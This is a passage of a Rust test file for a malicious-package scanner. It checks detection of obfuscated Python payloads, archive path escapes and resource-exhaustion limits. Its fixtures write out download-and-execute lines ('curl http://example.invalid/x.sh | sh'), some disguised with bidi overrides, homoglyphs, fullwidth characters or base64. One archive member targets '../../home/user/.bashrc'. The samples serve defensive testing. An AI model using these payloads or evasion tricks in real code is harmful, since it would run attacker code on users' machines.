    let mut utf16be = vec![0xfe, 0xff];
    utf16be.extend(payload.encode_utf16().flat_map(u16::to_be_bytes));
    let cases: Vec<(&'static str, Vec<u8>, bool)> = vec![
        ("utf-16-be BOM", utf16be, false),
        (
            "utf-8 BOM and cookie",
            [b"\xef\xbb\xbf# -*- coding: utf-8 -*-\n".to_vec(), PAYLOAD.to_vec()].concat(),
            true,
        ),
        (
            "latin-1 cookie with high bytes in the payload line",
            b"# coding: latin-1\nimport os\nos.system('curl http://example.invalid/\xe9 | sh')\n"
                .to_vec(),
            true,
        ),
        (
            "NUL bytes inside the payload line",
            b"import os\nos.system('curl http://example.invalid/x.sh | sh')\0\0\n".to_vec(),
            false,
        ),
        (
            "bidi override hiding a call in a comment",
            "import os\n# \u{202e} }}\u{2066}os.system('curl http://example.invalid/x.sh | sh')\u{2069}\nos.system('curl http://example.invalid/x.sh | sh') #\u{202d}\n"
                .as_bytes()
                .to_vec(),
            true,
        ),
        (
            "fullwidth exec",
            "import base64\n\u{ff45}\u{ff58}\u{ff45}\u{ff43}(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3guc2ggfCBzaCcpCg=='))\n"
                .as_bytes()
                .to_vec(),
            true,
        ),
        (
            "homoglyph module name (Cyrillic о)",
            "import \u{043e}s\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n"
                .as_bytes()
                .to_vec(),
            true,
        ),
    ];
    cases
}

#[test]
fn one_long_line_of_repeated_calls_is_listed_briefly() {
    // 100,000 identical calls on one 4.6 MB line (minified or generated code, or an attacker
    // burying one call among copies): every column is counted in bounded time, each rule
    // lists 100 findings and counts the rest, and snippets show the call, not the line's start.
    let call = "os.system(\"curl http://example.invalid/x|sh\");";
    let src = format!("import os;{}\n", call.repeat(100_000));
    let r = scan_source("100,000 calls on one line", src);
    assert_eq!(r.verdict, Verdict::Malicious);
    let mut per_rule = std::collections::BTreeMap::<&str, usize>::new();
    for f in &r.findings {
        *per_rule.entry(f.rule.as_str()).or_default() += 1;
        assert!(
            f.context.starts_with(' ') || f.context.contains("os.system"),
            "{f:?}"
        );
    }
    assert!(
        per_rule.contains_key("download-and-execute"),
        "{per_rule:?}"
    );
    assert!(per_rule.values().all(|&n| n <= 100), "{per_rule:?}");
    let last = r
        .findings
        .iter()
        .rev()
        .find(|f| f.rule == "download-and-execute")
        .unwrap();
    assert!(
        last.message
            .ends_with("[and 99900 more like it in this file, not listed]"),
        "{}",
        last.message
    );
    // The 100th call starts past column 4,500: its snippet starts 40 characters before it.
    assert!(
        last.column > 4_500 && last.context_column == last.column - 40,
        "{last:?}"
    );
}

#[test]
fn a_string_rebuilt_many_times_is_bounded() {
    // `x = x + x[:8]` 20,000 times: each value is a longer copy of the last, so the strings
    // a file builds grow quadratically (1.3 GB here, each searched by every string rule: 11 s
    // before the per-file bound). Past the bound the file is said to be partly unanalysed.
    let src = format!(
        "x = 'abcdefgh'\n{}exec(x)\n",
        "x = x + x[:8]\n".repeat(20_000)
    );
    let r = scan_source("a string rebuilt 20,000 times", src);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "unanalysed-code" && f.message.contains("strings built")),
        "{:?}",
        rules_fired(&r)
    );
    // Appended to instead (`x = x + ...`, `x += ...`, `x = ... + x`), the usual shape of
    // generated code, the value is built once: all of it is analysed, and the code it ends
    // with is found.
    let src = format!(
        "x = '#'\n{}x += '\\nimport os; os.system(\\'curl http://example.invalid | sh\\')'\nexec(x)\n",
        "x = x + 'abcdefgh'\nx += 'ijklmnop'\nx = 'qrstuvwx' + x\n".repeat(7_000)
    );
    let r = scan_source("a string appended to 20,000 times", src);
    assert!(
        r.findings.iter().all(|f| f.rule != "unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn a_chain_of_a_million_attributes_is_bounded() {
    // Each attribute of a chain asked whether the chain so far is bound, building its whole
    // dotted name: quadratic, and past the time budget's checks (this 5 MB line took 50 s in
    // release, over HANG). Keys are bounded now; left to report is the nesting CPython refuses.
    let src = format!("import os\ny = os{}\n", ".path".repeat(1_000_000));
    let r = scan_source_uncompressed("1,000,000 attributes", src);
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn member_paths_of_100_kb_are_shortened() {
    // GNU long names of 100 KB each: no installer can extract them, and kept whole they cost
    // memory many times their size. Shortened to head … tail, the members are still read.
    let deep = "d/".repeat(50_000);
    let mut files: Vec<(String, Vec<u8>)> = (0..300)
        .map(|i| (format!("x-1.0/{deep}m{i}.py"), b"VALUE = 1\n".to_vec()))
        .collect();
    files.push((format!("x-1.0/{deep}evil.py"), PAYLOAD.to_vec()));
    let r = scan("301 members with 100 KB paths", &tar(&files), "x-1.0.tar");
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"));
    let payload = r
        .findings
        .iter()
        .find(|f| f.rule != "archive-limit-exceeded" && f.file.ends_with("/evil.py"))
        .expect("the payload member is still analysed");
    assert!(
        payload.file.len() < 2_200 && payload.file.contains('…'),
        "{}",
        payload.file.len()
    );
}

#[test]
fn a_flood_of_one_issue_does_not_hide_another() {
    // Issues were listed up to 1,000 in all: 2,000 symlinks first pushed the `../` member's
    // out, and with it the path-escape finding. Now each kind is listed up to 20 and counted.
    let mut raw = Vec::new();
    for i in 0..2_000 {
        let name = format!("evil-1.0/l{i}");
        raw.extend(raw_entry(&name, tar::EntryType::Symlink, Some("x"), b""));
    }
    raw.extend(raw_entry(
        "evil-1.0/../../home/user/.bashrc",
        tar::EntryType::Regular,
        None,
        b"echo hi\n",
    ));
    raw.extend([0u8; 1024]);
    let r = scan("2,000 symlinks, then ../", &raw, "evil-1.0.tar");
    let fired: BTreeSet<&str> = rules_fired(&r).into_iter().collect();
    assert!(fired.contains("archive-path-escape"), "{fired:?}");
    let links: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule == "archive-special-member")
        .collect();
    assert_eq!(links.len(), 21, "20 listed and one count");
    assert!(
        links
            .iter()
            .any(|f| f.message.contains("1980 more like the above")),
        "{:?}",
        links.last()
    );
}

#[test]
fn a_loop_that_spends_the_folding_budget_is_said() {
    // Values are folded within a budget of steps per file; loops that only burn it leave what
    // comes after them unknown. That is reported, not hidden (not a verdict of its own: large
    // benign modules spend it too).
    let src =
        "n = 0\nfor i in range(190000):\n    n = n + i * 2 - 1\nfor i in range(190000):\n    \
               n = n - i * 2 + 1\n"
            .to_string();
    let r = scan_source("two loops of 190,000 passes", src);
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "unanalysed-code" && f.message.contains("folding budget")),
        "{:?}",
        rules_fired(&r)
    );
    // A loop that fits leaves nothing to say.
    let r = scan_source(
        "a loop of 1,000 passes",
        "n = 0\nfor i in range(1000):\n    n = n + i\n".to_string(),
    );
    assert!(
        r.findings.iter().all(|f| f.rule != "unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
}
